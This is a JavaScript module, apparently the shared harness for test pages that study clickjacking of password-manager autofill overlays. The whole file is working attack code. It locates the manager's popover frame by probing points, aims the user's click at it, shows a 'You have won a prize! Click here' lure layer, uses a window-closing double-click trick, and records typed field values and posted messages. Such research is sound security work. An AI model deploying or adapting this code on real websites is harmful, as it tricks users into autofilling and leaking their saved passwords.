/**
 * What the pages of this folder have in common: a sign-in form, and somebody who wants a click on a page to become a click in what a
 * password manager shows over it. Each page adds its tricks. Nothing here knows more than a script of a page can find out.
 */
const GRID = 16;
/** Narrower is a mark in a field. CSS pixels. */
const FRAME_WIDTH = 100;
/** As often as the page looks for what of ours is there. Milliseconds. */
const LOOK_EVERY = 40;
/** Where nothing of ours stands. */
const AWAY = { x: 400, y: 600 };

/** Puts style upon an element, above all else that a page has. Gives what takes it back. */
function restyle(element, css) {
  const before = element.getAttribute('style');
  element.setAttribute('style', `${before ?? ''};${css.replaceAll(';', ' !important;')} !important`);
  return () => (before === null ? element.removeAttribute('style') : element.setAttribute('style', before));
}

/** Adds a style sheet. Gives what takes it back. */
function addSheet(css) {
  const sheet = document.head.appendChild(document.createElement('style'));
  sheet.textContent = css;
  return () => sheet.remove();
}

/** A layer of the attacker's own above everything, our own layers too. Gives what takes it away. */
function addTopLayer(css) {
  const layer = document.body.appendChild(document.createElement('div'));
  layer.dataset.own = '';
  layer.textContent = 'You have won a prize! Click here, and again, and again.';
  layer.setAttribute('style', `inset: 0; width: 100%; height: 100%; margin: 0; border: 0; ${css}`);
  layer.popover = 'manual';
  layer.showPopover();
  return () => layer.remove();
}

const isForeign = (element) =>
  element instanceof HTMLElement && element.matches('[popover]') && element.dataset.own === undefined;

/** Where each layer of ours was found. */
let boxes = new Map();

/** True for a layer that reaches as far as it did when it was found, and no further: asked at the middle of each side. */
function stands({ host, left, top, right, bottom }) {
  const isAt = ([x, y]) => document.elementsFromPoint(x, y).includes(host);
  const [x, y] = [(left + right) / 2, (top + bottom) / 2];
  const within = [
    [left, y],
    [right, y],
    [x, top],
    [x, bottom],
  ];
  const outside = [
    [left - GRID, y],
    [right + GRID, y],
    [x, top - GRID],
    [x, bottom + GRID],
  ];
  return within.every(isAt) && !outside.some(isAt);
}

/** All points are asked only where something has changed: that takes so long that the page would come too late with its tricks. */
function find() {
  const hosts = [...document.querySelectorAll('[popover]')].filter(isForeign);
  if (hosts.length === boxes.size && hosts.every((host) => boxes.has(host) && stands(boxes.get(host))))
    return;
  boxes = new Map();
  if (hosts.length === 0) return;
  for (let y = GRID / 4; y < innerHeight; y += GRID)
    for (let x = GRID / 4; x < innerWidth; x += GRID)
      for (const host of document.elementsFromPoint(x, y).filter(isForeign)) {
        const { left = x, top = y, right = x } = boxes.get(host) ?? {};
        boxes.set(host, {
          host,
          left: Math.min(left, x),
          top: Math.min(top, y),
          right: Math.max(right, x),
          bottom: y,
        });
      }
}

/** What of ours lies over the page, by asking point after point: the box of the widest layer. */
function scan() {
  find();
  return [...boxes.values()].sort((a, b) => b.right - b.left - (a.right - a.left))[0] ?? null;
}

const attack = {
  /** What came to the page: values in its boxes, and messages. */
  caught: [],
  tricks: [],
  fieldTricks: [],
  /** The widest of our layers now, and the one that was once as wide as a frame. */
  found: null,
  frame: null,
  undo: null,
  trick: null,
  /** How late the page has come to a look at worst, and with what it does then. Milliseconds. */
  late: 0,
  /** So much later may page or hand come with this trick, and a frame of ours has still not stood in plain sight for long enough. */
  slack: 200,

  /** Tricks with the frame beside a field: each is called with its host when it is there, and may give what takes it back. */
  withFrame(...tricks) {
    attack.tricks.push(...tricks);
  },
  /** Tricks with the form: each hides it. */
  withFields(...tricks) {
    attack.fieldTricks.push(...tricks);
  },
  field: () => document.querySelector('input'),
  /** As a script does it, with the click of a person a moment ago or without. */
  refocus() {
    attack.field()?.blur();
    attack.field()?.focus({ preventScroll: true });
  },
  isFrameThere: () => attack.found !== null && attack.found.host === attack.frame,
  /** Where a person has to click now, for what the attacker wants of them; null: nowhere. */
  aim() {
    if (!attack.isFrameThere()) return AWAY;
    const { left, top, right } = attack.found;
    const scale = right - left > FRAME_WIDTH ? 1 : 0.1;
    return { x: left + 90 * scale, y: top + 26 * scale };
  },
  /** Another window lies over this one: the person clicks twice there, and it goes with the first click. Gives what ends that. */
  below(closeOther) {
    const { aim } = attack;
    // With more, the second click is one of somebody who looks first.
    attack.slack = 50;
    let gone = Number.NEGATIVE_INFINITY;
    attack.aim = () => (performance.now() - gone < 250 ? aim() : null);
    setTimeout(() => {
      closeOther();
      gone = performance.now();
    }, 1000);
    return () => {
      attack.aim = aim;
      closeOther();
    };
  },
  /** Plays this trick with the frame that is there, and with each that comes. */
  begin(number) {
    attack.stop();
    attack.frame = null;
    attack.trick = attack.tricks[number] ?? null;
  },
  stop() {
    attack.undo?.();
    attack.undo = null;
    attack.trick = null;
  },
  /** Page or hand came too late to tell what would have come of the trick. @param hand how late that was, in milliseconds. */
  isLate: (hand) => Math.max(hand, attack.late) > attack.slack,
  hide(number) {
    attack.fieldTricks[number](document.querySelector('form'));
  },
};

function look() {
  attack.found = scan();
  const { host, left, right } = attack.found ?? {};
  if (!host || host === attack.frame || right - left <= FRAME_WIDTH) return;
  attack.frame = host;
  attack.undo?.();
  attack.undo = attack.trick?.(host, attack.found) ?? null;
}

let looked = performance.now();
setInterval(() => {
  const before = looked;
  looked = performance.now();
  look();
  // Whatever has happened since the look before was seen, and played upon, only now.
  attack.late = Math.max(attack.late, performance.now() - before - LOOK_EVERY);
}, LOOK_EVERY);
addEventListener('click', () => {
  if (!attack.isFrameThere()) attack.refocus();
});
addEventListener('message', ({ data }) => attack.caught.push(JSON.stringify(data)));
addEventListener('input', (event) => attack.caught.push(event.composedPath()[0].value ?? ''), {
  capture: true,
});
Object.assign(globalThis, { attack, restyle, addSheet, addTopLayer });
